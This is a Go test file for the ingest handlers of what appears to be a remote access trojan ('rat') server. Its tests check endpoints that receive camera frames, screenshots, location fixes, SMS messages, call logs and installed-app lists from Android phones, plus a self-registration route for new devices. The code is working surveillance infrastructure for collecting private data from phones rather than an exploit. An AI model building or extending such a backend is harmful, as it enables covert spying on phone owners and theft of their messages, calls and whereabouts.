package handler

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/Sp1ker2/rat/internal/session"
	"github.com/Sp1ker2/rat/internal/storage"
	"github.com/Sp1ker2/rat/internal/storage/storagetest"
	"github.com/gin-gonic/gin"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
)

type ingestFixture struct {
	registry *session.Registry
	store    *storagetest.MemStore
	router   *gin.Engine
}

func newIngestFixture(t *testing.T, maxFrameSize int64) *ingestFixture {
	t.Helper()
	verifier, store := newTestVerifier(t)
	_, err := store.CreateDevice(context.Background(), "d1", "phone", "tok-123", storage.DeviceAttrs{})
	require.NoError(t, err)

	registry := session.NewRegistry(store, func() string { return "tok" }, zap.NewNop())
	ih := NewIngestHandler(store, registry, maxFrameSize, zap.NewNop())

	r := gin.New()
	r.POST("/api/device/register", ih.SelfRegister)
	dev := r.Group("/api/device", DeviceAuth(verifier))
	dev.POST("/camera/base64", ih.UploadCameraFrame)
	dev.POST("/screenshot/base64", ih.UploadScreenshot)
	dev.POST("/location", ih.UploadLocation)
	dev.POST("/system-info", ih.UploadSystemInfo)
	dev.POST("/sms", ih.UploadSMS)
	dev.POST("/call-logs", ih.UploadCallLogs)
	dev.POST("/installed-apps", ih.UploadInstalledApps)
	dev.POST("/logs", ih.UploadLogs)

	return &ingestFixture{registry: registry, store: store, router: r}
}

func (f *ingestFixture) post(path string, body any) *httptest.ResponseRecorder {
	raw, _ := json.Marshal(body)
	req := httptest.NewRequest(http.MethodPost, path, bytes.NewReader(raw))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("X-Device-Token", "tok-123")
	w := httptest.NewRecorder()
	f.router.ServeHTTP(w, req)
	return w
}

func jpegBase64(payload string) string {
	return base64.StdEncoding.EncodeToString(append([]byte{0xff, 0xd8}, payload...))
}

func TestUploadCameraFrame(t *testing.T) {
	f := newIngestFixture(t, 0)

	w := f.post("/api/device/camera/base64", map[string]any{
		"camera": "front", "data": jpegBase64("frame"),
		"width": 640, "height": 480, "timestamp": 1,
	})
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())

	frame, err := f.store.GetLatestFrame(context.Background(), "d1", "front")
	require.NoError(t, err)
	assert.Equal(t, 640, frame.Width)
}

func TestUploadCameraFrameRejections(t *testing.T) {
	f := newIngestFixture(t, 4)

	cases := []struct {
		name string
		body map[string]any
		want int
	}{
		{"bad camera", map[string]any{
			"camera": "side", "data": jpegBase64("x"),
			"width": 1, "height": 1, "timestamp": 1,
		}, http.StatusBadRequest},
		{"bad base64", map[string]any{
			"camera": "front", "data": "%%%",
			"width": 1, "height": 1, "timestamp": 1,
		}, http.StatusBadRequest},
		{"not jpeg", map[string]any{
			"camera": "front", "data": base64.StdEncoding.EncodeToString([]byte("GIF89a")),
			"width": 1, "height": 1, "timestamp": 1,
		}, http.StatusBadRequest},
		{"too large", map[string]any{
			"camera": "front", "data": jpegBase64("way too many bytes"),
			"width": 1, "height": 1, "timestamp": 1,
		}, http.StatusRequestEntityTooLarge},
		{"missing fields", map[string]any{
			"camera": "front",
		}, http.StatusBadRequest},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			w := f.post("/api/device/camera/base64", tc.body)
			assert.Equal(t, tc.want, w.Code)
		})
	}
}

func TestUploadScreenshotAcceptsPNG(t *testing.T) {
	f := newIngestFixture(t, 0)

	png := base64.StdEncoding.EncodeToString(append([]byte("\x89PNG"), "shot"...))
	w := f.post("/api/device/screenshot/base64", map[string]any{
		"data": png, "width": 1080, "height": 2400, "timestamp": 1,
	})
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())

	frame, err := f.store.GetLatestFrame(context.Background(), "d1", "screen")
	require.NoError(t, err)
	assert.Equal(t, 1080, frame.Width)
}

func TestUploadLocation(t *testing.T) {
	f := newIngestFixture(t, 0)

	w := f.post("/api/device/location", map[string]any{
		"lat": 55.75, "lon": 37.61, "accuracy": 3.5, "timestamp": 1,
	})
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())

	fixes, err := f.store.GetLocationHistory(context.Background(), "d1", 10, 0)
	require.NoError(t, err)
	require.Len(t, fixes, 1)
	require.NotNil(t, fixes[0].Accuracy)
	assert.Equal(t, 3.5, *fixes[0].Accuracy)
}

func TestUploadLocationZeroCoordinates(t *testing.T) {
	f := newIngestFixture(t, 0)

	// Equator / prime meridian: 0 is a valid coordinate, not a missing one.
	w := f.post("/api/device/location", map[string]any{
		"lat": 0.0, "lon": 0.0, "timestamp": 1,
	})
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())

	fixes, err := f.store.GetLocationHistory(context.Background(), "d1", 10, 0)
	require.NoError(t, err)
	require.Len(t, fixes, 1)
	assert.Equal(t, 0.0, fixes[0].Lat)
	assert.Equal(t, 0.0, fixes[0].Lon)
}

func TestUploadLocationMissingCoordinate(t *testing.T) {
	f := newIngestFixture(t, 0)

	w := f.post("/api/device/location", map[string]any{
		"lat": 10.0, "timestamp": 1,
	})
	assert.Equal(t, http.StatusBadRequest, w.Code)
}

func TestUploadCameraFrameWithoutTimestamp(t *testing.T) {
	f := newIngestFixture(t, 0)

	w := f.post("/api/device/camera/base64", map[string]any{
		"camera": "back", "data": jpegBase64("frame"),
		"width": 640, "height": 480,
	})
	assert.Equal(t, http.StatusOK, w.Code, w.Body.String())
}

func TestUploadLocationOutOfRange(t *testing.T) {
	f := newIngestFixture(t, 0)

	w := f.post("/api/device/location", map[string]any{
		"lat": 91.0, "lon": 37.61, "timestamp": 1,
	})
	assert.Equal(t, http.StatusBadRequest, w.Code)

	w = f.post("/api/device/location", map[string]any{
		"lat": 55.75, "lon": -180.5, "timestamp": 1,
	})
	assert.Equal(t, http.StatusBadRequest, w.Code)
}

func TestUploadSystemInfo(t *testing.T) {
	f := newIngestFixture(t, 0)

	w := f.post("/api/device/system-info", map[string]any{
		"battery_level": 42, "is_charging": true, "timestamp": 1,
	})
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())

	events := f.store.Events("d1", "system_info")
	require.Len(t, events, 1)

	var data map[string]any
	require.NoError(t, json.Unmarshal(events[0].EventData, &data))
	assert.Equal(t, 42.0, data["battery_level"])
	assert.Equal(t, true, data["is_charging"])
}

func TestUploadSMSBatch(t *testing.T) {
	f := newIngestFixture(t, 0)

	w := f.post("/api/device/sms", []map[string]any{
		{"address": "+79001112233", "body": "hi", "date": 1, "type": 1},
		{"address": "+79004445566", "body": "ok", "date": 2, "type": 2},
	})
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())
	assert.Len(t, f.store.Events("d1", "sms"), 2)
}

func TestUploadCallLogs(t *testing.T) {
	f := newIngestFixture(t, 0)

	w := f.post("/api/device/call-logs", []map[string]any{
		{"number": "+79001112233", "name": "Ivan", "date": 1, "duration": 30, "type": 2},
	})
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())
	assert.Len(t, f.store.Events("d1", "call_log"), 1)
}

func TestUploadInstalledApps(t *testing.T) {
	f := newIngestFixture(t, 0)

	w := f.post("/api/device/installed-apps", map[string]any{
		"apps": []map[string]any{
			{"package_name": "com.example.app", "app_name": "Example"},
			{"package_name": "org.chromium", "app_name": "Chrome", "version_name": "119.0"},
		},
		"timestamp": 1,
	})
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())

	events := f.store.Events("d1", "installed_apps")
	require.Len(t, events, 1, "one event carries the whole list")

	var data map[string]any
	require.NoError(t, json.Unmarshal(events[0].EventData, &data))
	assert.Equal(t, 2.0, data["count"])
}

func TestUploadLogsLevelRouting(t *testing.T) {
	f := newIngestFixture(t, 0)

	w := f.post("/api/device/logs", []map[string]any{
		{"level": "info", "tag": "net", "message": "sync ok", "timestamp": 1},
		{"level": "error", "tag": "cam", "message": "open failed", "timestamp": 2},
	})
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())
	assert.Len(t, f.store.Events("d1", "log_info"), 1)
	assert.Len(t, f.store.Events("d1", "log_error"), 1)
}

// postOpen sends without any device token, for the unauthenticated routes.
func (f *ingestFixture) postOpen(path string, body any) *httptest.ResponseRecorder {
	raw, _ := json.Marshal(body)
	req := httptest.NewRequest(http.MethodPost, path, bytes.NewReader(raw))
	req.Header.Set("Content-Type", "application/json")
	w := httptest.NewRecorder()
	f.router.ServeHTTP(w, req)
	return w
}

func TestSelfRegisterProvisionsUnknownDevice(t *testing.T) {
	f := newIngestFixture(t, 0)
	id := "b3f1c9e2-4a5d-4f6e-8a7b-0c1d2e3f4a5b"

	w := f.postOpen("/api/device/register", map[string]any{
		"device_id":    id,
		"manufacturer": "Samsung",
		"model":        "Galaxy S21",
	})
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())

	var resp map[string]any
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &resp))
	assert.Equal(t, id, resp["device_id"])
	assert.Equal(t, "Samsung Galaxy S21", resp["device_name"])
	assert.NotContains(t, resp, "token", "token never leaves over this endpoint")

	dev, err := f.store.GetDevice(context.Background(), id)
	require.NoError(t, err)
	assert.NotEmpty(t, dev.Token)
}

func TestSelfRegisterExistingDeviceKeepsToken(t *testing.T) {
	f := newIngestFixture(t, 0)
	id := "b3f1c9e2-4a5d-4f6e-8a7b-0c1d2e3f4a5b"

	w := f.postOpen("/api/device/register", map[string]any{"device_id": id})
	require.Equal(t, http.StatusOK, w.Code)
	before, err := f.store.GetDevice(context.Background(), id)
	require.NoError(t, err)
	assert.Equal(t, "Unknown Device", before.Name)

	w = f.postOpen("/api/device/register", map[string]any{
		"device_id": id, "android_version": "13",
	})
	require.Equal(t, http.StatusOK, w.Code)

	after, err := f.store.GetDevice(context.Background(), id)
	require.NoError(t, err)
	assert.Equal(t, before.Token, after.Token, "re-register never rotates the token")
	assert.Equal(t, "13", after.AndroidVersion)
}

func TestSelfRegisterRejections(t *testing.T) {
	f := newIngestFixture(t, 0)

	w := f.postOpen("/api/device/register", map[string]any{"device_id": "not-a-uuid"})
	assert.Equal(t, http.StatusBadRequest, w.Code)

	w = f.postOpen("/api/device/register", map[string]any{"model": "Galaxy S21"})
	assert.Equal(t, http.StatusBadRequest, w.Code, "device_id required")
}
